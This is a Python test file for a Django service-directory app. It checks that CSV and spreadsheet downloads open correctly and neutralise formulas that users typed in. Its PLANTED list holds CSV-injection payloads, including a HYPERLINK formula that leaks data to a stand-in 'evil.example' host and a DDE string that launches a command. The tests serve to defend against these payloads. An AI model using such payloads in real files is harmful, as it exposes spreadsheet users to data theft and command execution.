"""Downloads: every link on the dashboards gives a file that opens, and no
file Caremap writes lets a spreadsheet program run a formula typed into
Caremap by someone else (a directory entry, an organisation's name)."""

import csv
import datetime
import inspect
import io
import re

import openpyxl
import pytest
from bs4 import BeautifulSoup
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from caremap.directory.models import Listing, ListingTag, Service
from caremap.reports.tables import SECTIONS
from caremap.reports.tests.conftest import cohort  # noqa: F401 (a fixture)
from caremap.spreadsheets import FORMULA_STARTS, NUMBER, neutralise
from caremap.testing.routes import every_route

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Every view that answers a CSV or a spreadsheet, and what keeps its cells
# from running. A new one fails test_every_download_view_is_listed until it
# is added here, and test_no_download_lets_a_spreadsheet_run_a_formula must
# then fetch it.
DOWNLOADS = {
    "reports:area": "neutralised",
    "reports:organisation": "neutralised",
    "directory:community-csv": "neutralised",
    # Evidence for a self-audit is returned byte for byte as its uploader
    # gave it: it is their document, changing it would falsify evidence,
    # and a spreadsheet's real formulas could not be told from typed ones.
    # It is only ever an attachment, under nosniff.
    "selfaudits:file": "as uploaded",
}

# What a view's code says when it writes a CSV or a spreadsheet.
WRITES_A_FILE = re.compile(
    r"text/csv|csv\.writer|openpyxl|spreadsheetml|downloads\.response|FileResponse"
)

PLANTED = [
    '=HYPERLINK("http://evil.example/?leak","Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def view_source(callback):
    """The view's own code and that of the module's private helpers it
    calls (the dashboards write their files in `_dashboard`)."""
    view = inspect.unwrap(callback)
    module = inspect.getmodule(view)
    try:
        text = inspect.getsource(view)
    except (OSError, TypeError):
        return ""
    for name in set(re.findall(r"\b(_\w+)\(", text)):
        helper = getattr(module, name, None)
        if inspect.isfunction(helper):
            text += inspect.getsource(helper)
    return text


def test_every_download_view_is_listed(db):
    found = {
        route.name
        for route in every_route()
        if not route.admin and WRITES_A_FILE.search(view_source(route.callback))
    }
    assert found == set(DOWNLOADS), (
        "A view writes CSV or spreadsheet files but is not in DOWNLOADS "
        "(caremap/tests/test_downloads.py): pass its cells through "
        "caremap.spreadsheets.neutralise, add it, and fetch it in "
        f"test_no_download_lets_a_spreadsheet_run_a_formula. Unlisted: "
        f"{sorted(found - set(DOWNLOADS))}; listed but not found: "
        f"{sorted(set(DOWNLOADS) - found)}"
    )


# The neutraliser --------------------------------------------------------


@given(st.text())
def test_neutralised_text_never_starts_a_formula(text):
    safe = neutralise(text)
    assert not safe.startswith(FORMULA_STARTS) or NUMBER.fullmatch(safe)
    assert safe in (text, "'" + text)


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none()))
def test_numbers_stay_numbers(value):
    assert neutralise(value) == value


def test_formulas_are_quoted_and_plain_text_and_numbers_kept():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("-1+2") == "'-1+2"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("\t=1") == "'\t=1"
    assert neutralise("-3") == "-3"
    assert neutralise("+2.5") == "+2.5"
    assert neutralise("-12%") == "-12%"
    assert neutralise("Mutual aid") == "Mutual aid"
    assert neutralise(-3) == -3


# Reading the files ------------------------------------------------------


def cells_of(response):
    """Every cell of a downloaded file, as (value, is_formula)."""
    content_type = response["Content-Type"]
    if content_type.startswith("text/csv"):
        text = response.content.decode("utf-8-sig")
        return [(cell, False) for row in csv.reader(io.StringIO(text)) for cell in row]
    assert content_type == XLSX, content_type
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [
        (cell.value, cell.data_type == "f")
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def assert_inert(cells, where):
    for value, is_formula in cells:
        assert not is_formula, f"{where}: a formula cell {value!r}"
        if isinstance(value, str) and value.startswith(FORMULA_STARTS):
            assert NUMBER.fullmatch(value), f"{where}: {value!r} would run"


def dashboard_downloads(client, url):
    """(section, table title, href) of every download link on every section
    of a dashboard."""
    links = []
    for section in SECTIONS:
        page = client.get(url, {"section": section})
        assert page.status_code == 200, section
        soup = BeautifulSoup(page.content, "html.parser")
        tables = soup.select("section.app-report")
        assert tables, section
        for table in tables:
            title = table.find("h3").get_text(strip=True)
            hrefs = [a["href"] for a in table.select("a[download]")]
            assert len(hrefs) == 2, (section, title)  # CSV and XLSX
            links += [(section, title, href) for href in hrefs]
    return links


def dashboard_url(world, who):
    if who == "cara":
        return reverse("reports:area", args=[world.area.pk])
    return reverse("reports:organisation", args=[world.riverside.pk])


@pytest.mark.parametrize("who", ["mia", "cara"])
def test_every_dashboard_download_link_opens_its_table(world, sign_in, cohort, who):  # noqa: F811
    client = sign_in(getattr(world, who))
    url = dashboard_url(world, who)
    links = dashboard_downloads(client, url)
    assert {section for section, _title, _href in links} == set(SECTIONS)
    for section, title, href in links:
        response = client.get(url + href)
        assert response.status_code == 200, (section, title, href)
        assert response["Content-Disposition"].startswith("attachment;")
        cells = cells_of(response)
        # The file is the table whose link it was, headed by its title.
        assert cells[0][0] == title, (section, href)


def plant_formulas(world):
    """Formula-like text wherever people type what the downloads show."""
    world.riverside.name = PLANTED[0]
    world.riverside.save()
    world.area.name = PLANTED[3]
    world.area.save()
    today = timezone.localdate()
    for n, text in enumerate(PLANTED):
        service = Service.objects.create(id=f"planted-{n}", name=text, status="active")
        listing = Listing.objects.create(
            service=service,
            area=world.area,
            kind=Listing.Kind.PEER_LED,
            peer_led=True,
            independent=True,
            started_on=today - datetime.timedelta(days=n),
        )
        ListingTag.objects.create(
            listing=listing, kind=ListingTag.Kind.NEED, value=text
        )


def test_no_download_lets_a_spreadsheet_run_a_formula(world, sign_in, cohort):  # noqa: F811
    plant_formulas(world)
    fetched = {}

    for who, name in [("mia", "reports:organisation"), ("cara", "reports:area")]:
        client = sign_in(getattr(world, who))
        url = dashboard_url(world, who)
        for _section, _title, href in dashboard_downloads(client, url):
            response = client.get(url + href)
            assert response.status_code == 200
            fetched.setdefault(name, []).append(cells_of(response))

    client = sign_in(world.cara)
    page = client.get(reverse("directory:community"))
    soup = BeautifulSoup(page.content, "html.parser")
    hrefs = [a["href"] for a in soup.select("a[download]") if ".csv" in a["href"]]
    assert hrefs
    for href in hrefs:
        response = client.get(href)
        assert response.status_code == 200, href
        fetched.setdefault("directory:community-csv", []).append(cells_of(response))

    neutralised = {name for name, how in DOWNLOADS.items() if how == "neutralised"}
    assert set(fetched) == neutralised
    for name, files in fetched.items():
        for cells in files:
            assert_inert(cells, name)
    # The planted text is there, quoted, so the checks above had work to do.
    every = {value for files in fetched.values() for c in files for value, _f in c}
    assert "'" + PLANTED[0] in every  # the organisation's name in its notes
    assert "'" + PLANTED[3] in every  # the area's name in the commissioner's
    for text in PLANTED:  # each entry's name in the new peer-led groups
        assert "'" + text in every, repr(text)
